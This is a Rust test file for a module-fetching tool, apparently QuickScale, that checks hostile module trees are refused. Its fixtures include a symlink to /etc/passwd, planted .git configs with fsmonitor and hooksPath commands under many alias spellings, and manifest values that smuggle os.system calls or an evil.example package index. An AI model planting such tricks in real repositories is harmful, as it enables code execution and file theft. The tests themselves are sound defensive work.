//! Hostile module trees are rejected before anything is written.

use std::path::{Path, PathBuf};

use crate::common::fixtures::{commit_to, module_files, module_repo};
use crate::common::{TestEnv, assert_same_repo, describe, stderr};

/// A module repository `evil` whose main branch gets `tree` as a new commit.
fn repo_with_tree(env: &TestEnv, make_tree: impl FnOnce(&Path) -> String) -> PathBuf {
    let repo = module_repo(env, "evil");
    let tree = make_tree(&repo);
    let commit = env
        .git(
            &repo,
            &["commit-tree", &tree, "-p", "HEAD", "-m", "hostile"],
        )
        .trim()
        .to_owned();
    env.git(&repo, &["update-ref", "refs/heads/main", &commit]);
    repo
}

/// `git mktree` from lines added to the module's normal root tree.
fn tree_plus(env: &TestEnv, repo: &Path, extra: &[String]) -> String {
    let mut lines = env.git(repo, &["ls-tree", "HEAD"]);
    for e in extra {
        lines.push_str(e);
        lines.push('\n');
    }
    mktree(env, repo, &lines)
}

/// `git mktree` from `ls-tree`-style lines.
fn mktree(env: &TestEnv, repo: &Path, lines: &str) -> String {
    let mut cmd = std::process::Command::new("git");
    env.env(&mut cmd);
    let mut child = cmd
        .current_dir(repo)
        .args(["mktree"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("mktree");
    use std::io::Write;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(lines.as_bytes())
        .expect("write");
    let out = child.wait_with_output().expect("mktree output");
    assert!(out.status.success(), "{}", describe(&out));
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

fn blob(env: &TestEnv, repo: &Path, text: &str) -> String {
    let path = repo.join(".tmp-blob");
    std::fs::write(&path, text).expect("write");
    let id = env
        .git(repo, &["hash-object", "-w", ".tmp-blob"])
        .trim()
        .to_owned();
    std::fs::remove_file(path).expect("rm");
    id
}

fn assert_rejected(env: &TestEnv, repo: &Path, expect: &str, git_config: &[(&str, &str)]) {
    let dir = env.root().join("shop");
    if !dir.exists() {
        env.new_project(&[]);
    }
    for (k, v) in git_config {
        env.git(&dir, &["config", k, v]);
    }
    env.plan_add(&dir, &[("evil", repo)]);
    let snap = env.repo_snapshot(&dir);
    let out = env.qs(&dir, &["apply", "--yes"]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(
        stderr(&out).contains(expect),
        "expected `{expect}`:\n{}",
        describe(&out)
    );
    assert_same_repo(&snap, &env.repo_snapshot(&dir), expect);
    assert!(!dir.join("modules/evil").exists());
}

#[test]
fn symlink_pointing_outside_the_prefix() {
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    std::os::unix::fs::symlink("../../../../etc/passwd", repo.join("passwords")).expect("symlink");
    env.git(&repo, &["add", "-A"]);
    env.git(&repo, &["commit", "-qm", "symlink"]);
    assert_rejected(
        &env,
        &repo,
        "module evil: the symlink `passwords` points outside the module (to `../../../../etc/passwd`)",
        &[],
    );
}

#[test]
fn a_dot_git_entry() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let config = blob(&env, repo, "[core]\n\tfsmonitor = touch /tmp/pwned\n");
        let sub = mktree(&env, repo, &format!("100644 blob {config}\tconfig\n"));
        tree_plus(&env, repo, &[format!("040000 tree {sub}\t.git")])
    });
    assert_rejected(
        &env,
        &repo,
        "module evil: its tree contains a `.git` entry at `.git`",
        &[],
    );
}

#[test]
fn a_path_that_is_not_utf8() {
    use std::os::unix::ffi::OsStrExt;
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    std::fs::write(repo.join(std::ffi::OsStr::from_bytes(b"bad\xffname")), "x").expect("write");
    env.git(&repo, &["add", "-A"]);
    env.git(&repo, &["commit", "-qm", "non-utf8"]);
    assert_rejected(
        &env,
        &repo,
        "module evil: a path under `.` is not valid UTF-8",
        &[],
    );
}

#[test]
fn an_absurdly_long_path() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let b = blob(&env, repo, "x");
        tree_plus(
            &env,
            repo,
            &[format!("100644 blob {b}\t{}", "n".repeat(300))],
        )
    });
    assert_rejected(
        &env,
        &repo,
        "is too long (300 bytes; the limit is 255)",
        &[],
    );
}

#[test]
fn a_gitlink() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let head = env.git(repo, &["rev-parse", "HEAD"]).trim().to_owned();
        tree_plus(&env, repo, &[format!("160000 commit {head}\tvendored")])
    });
    assert_rejected(
        &env,
        &repo,
        "module evil: it contains a submodule (gitlink) at `vendored`",
        &[],
    );
}

#[test]
fn a_module_over_the_configured_size() {
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    commit_to(
        &env,
        &repo,
        &[("big.bin".into(), "x".repeat(50_000))],
        "big",
    );
    assert_rejected(
        &env,
        &repo,
        "module evil: it is larger than the limit (more than 20000 bytes)",
        &[("quickscale.maxModuleBytes", "20000")],
    );
}

#[test]
fn manifest_fields_that_would_inject_code() {
    let cases = [
        (
            "django_apps: [quickscale_modules_evil]",
            "django_apps: [\"x\\\"]; import os; os.system(\\\"id\\\") #\"]",
            "django_apps",
        ),
        (
            "dependencies: []",
            "dependencies: [\"--index-url=http://evil.example/simple\"]",
            "dependencies",
        ),
        (
            "    include: quickscale_modules_evil.urls",
            "    include: \"os.system('id')\"",
            "urls: include",
        ),
        (
            "django_setting: EVIL_GREETING",
            "django_setting: \"EVIL_GREETING = 1; import os\"",
            "django_setting",
        ),
    ];
    for (from, to, expect) in cases {
        let env = TestEnv::new();
        let repo = module_repo(&env, "evil");
        let manifest = module_files("evil", "2.0.0")
            .into_iter()
            .find(|(p, _)| p == "module.yml")
            .map(|(_, t)| t)
            .expect("manifest");
        assert!(manifest.contains(from), "{from}");
        commit_to(
            &env,
            &repo,
            &[("module.yml".into(), manifest.replace(from, to))],
            "inject",
        );
        assert_rejected(&env, &repo, expect, &[]);
    }
}

/// `ls-tree` line of a symlink whose target is `target`.
fn link(env: &TestEnv, repo: &Path, name: &str, target: &str) -> String {
    format!("120000 blob {}\t{name}", blob(env, repo, target))
}

#[test]
fn symlinks_that_escape_only_once_resolved() {
    // `sub/up` points at the module root (allowed on its own); through it,
    // each of these targets leaves the module, although none does lexically.
    let cases = [
        ("x", "sub/up/../etc/passwd", "x"),
        ("sub/deeper", "up/..", "sub/deeper"),
    ];
    for (name, target, shown) in cases {
        let env = TestEnv::new();
        let repo = repo_with_tree(&env, |repo| {
            let mut sub = vec![link(&env, repo, "up", "..")];
            let mut top = Vec::new();
            match name.strip_prefix("sub/") {
                Some(inner) => sub.push(link(&env, repo, inner, target)),
                None => top.push(link(&env, repo, name, target)),
            }
            let sub = mktree(&env, repo, &(sub.join("\n") + "\n"));
            top.push(format!("040000 tree {sub}\tsub"));
            tree_plus(&env, repo, &top)
        });
        assert_rejected(
            &env,
            &repo,
            &format!(
                "module evil: the symlink `{shown}` points outside the module (to `{target}`)"
            ),
            &[],
        );
    }
}

#[test]
fn a_chain_of_symlinks_that_escapes() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let deep = mktree(
            &env,
            repo,
            &format!("{}\n", link(&env, repo, "root", "../..")),
        );
        let a = mktree(&env, repo, &format!("040000 tree {deep}\tb\n"));
        tree_plus(
            &env,
            repo,
            &[
                format!("040000 tree {a}\ta"),
                link(&env, repo, "first", "second"),
                link(&env, repo, "second", "a/b/root/.."),
            ],
        )
    });
    assert_rejected(
        &env,
        &repo,
        "module evil: the symlink `first` points outside the module (to `second`)",
        &[],
    );
}

#[test]
fn a_symlink_cycle() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        tree_plus(
            &env,
            repo,
            &[
                link(&env, repo, "loop_a", "loop_b"),
                link(&env, repo, "loop_b", "./loop_a"),
            ],
        )
    });
    assert_rejected(
        &env,
        &repo,
        "module evil: the symlink `loop_a` leads into a cycle (`loop_a` → `loop_b` → `loop_a`)",
        &[],
    );
}

#[test]
fn symlinks_that_stay_inside_are_embedded() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let docs = mktree(
            &env,
            repo,
            &format!(
                "{}\n{}\n",
                link(&env, repo, "readme", "../README.md"),
                link(&env, repo, "self", "../docs/./readme")
            ),
        );
        tree_plus(
            &env,
            repo,
            &[
                format!("040000 tree {docs}\tdocs"),
                link(&env, repo, "hop1", "hop2"),
                link(&env, repo, "hop2", "docs/self"),
                link(&env, repo, "dangling", "not-there/yet"),
            ],
        )
    });
    env.new_project(&[]);
    let dir = env.root().join("shop");
    env.plan_add(&dir, &[("evil", &repo)]);
    env.qs_ok(&dir, &["apply", "--yes"]);
    let hop1 = dir.join("modules/evil/hop1");
    assert_eq!(
        std::fs::read_link(&hop1).expect("hop1 is a symlink"),
        PathBuf::from("hop2")
    );
    assert!(
        std::fs::read_to_string(&hop1)
            .expect("resolves")
            .starts_with("# Fixture module evil")
    );
}

#[test]
fn dot_git_in_every_spelling() {
    let names = [
        ".GIT",
        ".git.",
        ".git ",
        ".Git. .",
        "git~1",
        "GIT~1",
        ".git::$INDEX_ALLOCATION",
        ".g\u{200c}it",
        "\u{feff}.GIT",
        ".gi\u{206f}t",
    ];
    for name in names {
        let env = TestEnv::new();
        let repo = repo_with_tree(&env, |repo| {
            let config = blob(&env, repo, "[core]\n\thooksPath = /tmp\n");
            let sub = mktree(&env, repo, &format!("100644 blob {config}\tconfig\n"));
            tree_plus(&env, repo, &[format!("040000 tree {sub}\t{name}")])
        });
        assert_rejected(
            &env,
            &repo,
            &format!("module evil: its tree contains a `.git` entry at `{name}`"),
            &[],
        );
    }
}

#[test]
fn dot_git_alias_deep_in_the_tree() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let b = blob(&env, repo, "x");
        let inner = mktree(&env, repo, &format!("100644 blob {b}\tHEAD\n"));
        let pkg = mktree(&env, repo, &format!("040000 tree {inner}\tgit~1\n"));
        tree_plus(&env, repo, &[format!("040000 tree {pkg}\tpkg")])
    });
    assert_rejected(
        &env,
        &repo,
        "module evil: its tree contains a `.git` entry at `pkg/git~1`",
        &[],
    );
}

#[test]
fn names_that_only_look_like_dot_git_are_fine() {
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    commit_to(
        &env,
        &repo,
        &[
            (".github/workflows/ci.yml".into(), "on: push\n".into()),
            (".gitignore".into(), "*.pyc\n".into()),
            ("git~2".into(), "x\n".into()),
            (".git-blame-ignore-revs".into(), "\n".into()),
        ],
        "git-ish names",
    );
    env.new_project(&[]);
    let dir = env.root().join("shop");
    env.plan_add(&dir, &[("evil", &repo)]);
    env.qs_ok(&dir, &["apply", "--yes"]);
    assert!(dir.join("modules/evil/.github/workflows/ci.yml").is_file());
    assert!(dir.join("modules/evil/git~2").is_file());
}

#[test]
fn more_files_than_the_configured_limit() {
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    let files: Vec<(String, String)> = (0..30)
        .map(|i| (format!("data/f{i}.txt"), format!("{i}\n")))
        .collect();
    commit_to(&env, &repo, &files, "many files");
    assert_rejected(
        &env,
        &repo,
        "module evil: it is larger than the limit (more than 25 files)",
        &[("quickscale.maxModuleFiles", "25")],
    );
}

#[test]
fn a_path_over_4096_bytes() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let b = blob(&env, repo, "x");
        // 21 directories of 200 bytes: a 4,200-byte path, each component legal.
        let mut tree = mktree(&env, repo, &format!("100644 blob {b}\tleaf.txt\n"));
        for level in 0..21 {
            let name = format!("{level:02}{}", "d".repeat(198));
            tree = mktree(&env, repo, &format!("040000 tree {tree}\t{name}\n"));
        }
        tree_plus(&env, repo, &[format!("040000 tree {tree}\tdeep")])
    });
    assert_rejected(&env, &repo, "bytes; the limit is 1024)", &[]);
}

#[test]
fn an_entry_named_dot_dot() {
    for name in ["..", "."] {
        let env = TestEnv::new();
        let repo = repo_with_tree(&env, |repo| {
            let b = blob(&env, repo, "print('pwned')\n");
            let sub = mktree(&env, repo, &format!("100644 blob {b}\tsitecustomize.py\n"));
            tree_plus(&env, repo, &[format!("040000 tree {sub}\t{name}")])
        });
        assert_rejected(
            &env,
            &repo,
            &format!("module evil: its tree contains an entry named `{name}` under `.`"),
            &[],
        );
        assert!(!env.root().join("shop/modules/sitecustomize.py").exists());
    }
}

/// A repository `upstream/<dir>` holding exactly `files`, on branch main.
fn plain_repo(env: &TestEnv, dir: &str, files: &[(String, String)]) -> PathBuf {
    let repo = env.root().join("upstream").join(dir);
    std::fs::create_dir_all(&repo).expect("mkdir");
    env.git(&repo, &["init", "-q", "-b", "main"]);
    commit_to(env, &repo, files, "initial");
    repo
}

/// Plans `module_arg` from `repo`, then asserts apply refuses it with every
/// text of `expect` and leaves the project exactly as it was.
fn assert_refused(env: &TestEnv, module_arg: &str, repo: &Path, expect: &[&str]) {
    let dir = env.new_project(&[]);
    let name = module_arg.split('@').next().expect("name");
    env.qs_ok(
        &dir,
        &[
            "plan",
            "--add",
            module_arg,
            "--source",
            &format!("{name}={}", repo.display()),
            "--yes",
        ],
    );
    let snap = env.repo_snapshot(&dir);
    let out = env.qs(&dir, &["apply", "--yes"]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    for e in expect {
        assert!(
            stderr(&out).contains(e),
            "expected `{e}`:\n{}",
            describe(&out)
        );
    }
    assert_same_repo(&snap, &env.repo_snapshot(&dir), expect[0]);
    assert!(!dir.join("modules").join(name).exists());
}

/// Upstream QuickScale's layout: every module under `quickscale_modules/`.
fn monorepo_files() -> Vec<(String, String)> {
    let mut files = vec![
        (
            "pyproject.toml".to_owned(),
            "[project]\nname = \"quickscale\"\nversion = \"0.88.0\"\n".to_owned(),
        ),
        ("README.md".to_owned(), "# QuickScale\n".to_owned()),
    ];
    for m in ["crm", "auth"] {
        for (path, text) in module_files(m, "1.0.0") {
            files.push((format!("quickscale_modules/{m}/{path}"), text));
        }
    }
    files
}

#[test]
fn a_whole_monorepo_is_not_a_module() {
    let env = TestEnv::new();
    let repo = plain_repo(&env, "quickscale", &monorepo_files());
    assert_refused(
        &env,
        "crm@main",
        &repo,
        &[
            "module crm: its root holds a `quickscale_modules/` directory, so it is the whole QuickScale repository; this is not one module's tree",
            "hint: did you mean `crm@splits/crm-module`? That branch holds only this module: set `sources.crm.ref: splits/crm-module` in quickscale.yml; this repository has it under `quickscale_modules/crm/`",
        ],
    );
}

#[test]
fn a_tree_without_manifest_or_catalog_wiring() {
    let env = TestEnv::new();
    let repo = plain_repo(
        &env,
        "plain",
        &[
            ("plain/__init__.py".into(), String::new()),
            ("README.md".into(), "# just some code\n".into()),
        ],
    );
    assert_refused(
        &env,
        "plain",
        &repo,
        &[
            "module plain: it has no module.yml and the catalog has no wiring for it, so nothing says what it contributes; this is not one module's tree",
            "hint: point `sources.plain` at a repository or branch whose root is the module itself (module.yml at the top)",
        ],
    );
}

#[test]
fn a_pyproject_of_another_project() {
    let env = TestEnv::new();
    let repo = plain_repo(
        &env,
        "website",
        &[
            (
                "pyproject.toml".into(),
                "[tool.poetry]\nname = \"acme-website\"\nversion = \"1.0\"\n".into(),
            ),
            ("acme/__init__.py".into(), String::new()),
        ],
    );
    assert_refused(
        &env,
        "crm@main",
        &repo,
        &[
            "module crm: it has no module.yml and its pyproject.toml is the project `acme-website`; this is not one module's tree",
            "did you mean `crm@splits/crm-module`?",
        ],
    );
}

#[test]
fn several_python_projects_side_by_side() {
    let env = TestEnv::new();
    let repo = plain_repo(
        &env,
        "mono",
        &[
            (
                "packages/core/pyproject.toml".into(),
                "[project]\nname = \"core\"\n".into(),
            ),
            ("packages/cli/setup.py".into(), "setup()\n".into()),
            ("README.md".into(), "# mono\n".into()),
        ],
    );
    assert_refused(
        &env,
        "crm@main",
        &repo,
        &[
            "module crm: it has no module.yml and holds 2 Python projects (packages/cli/, packages/core/); this is not one module's tree",
        ],
    );
}

#[test]
fn a_catalog_module_without_manifest_but_shaped_like_one_is_embedded() {
    let env = TestEnv::new();
    let files: Vec<(String, String)> = module_files("crm", "1.0.0")
        .into_iter()
        .filter(|(p, _)| p != "module.yml")
        .collect();
    let repo = plain_repo(&env, "crm-split", &files);
    let dir = env.new_project(&[]);
    env.qs_ok(
        &dir,
        &[
            "plan",
            "--add",
            "crm@main",
            "--source",
            &format!("crm={}", repo.display()),
            "--yes",
        ],
    );
    env.qs_ok(&dir, &["apply", "--yes"]);
    assert!(
        dir.join("modules/crm/quickscale_modules_crm/urls.py")
            .is_file()
    );
}

#[test]
fn a_fetched_manifest_error_points_at_its_line_and_column() {
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    let manifest = module_files("evil", "2.0.0")
        .into_iter()
        .find(|(p, _)| p == "module.yml")
        .map(|(_, t)| t)
        .expect("manifest");
    let bad = manifest.replace(
        "dependencies: []",
        "dependencies: [\"--index-url=http://evil.example/simple\"]",
    );
    commit_to(&env, &repo, &[("module.yml".into(), bad)], "bad dependency");
    assert_rejected(
        &env,
        &repo,
        &format!(
            "error: {}@HEAD:module.yml:23:16: module evil: dependencies: `--index-url=http://evil.example/simple`: must be a PEP 508 requirement",
            repo.display()
        ),
        &[],
    );
}
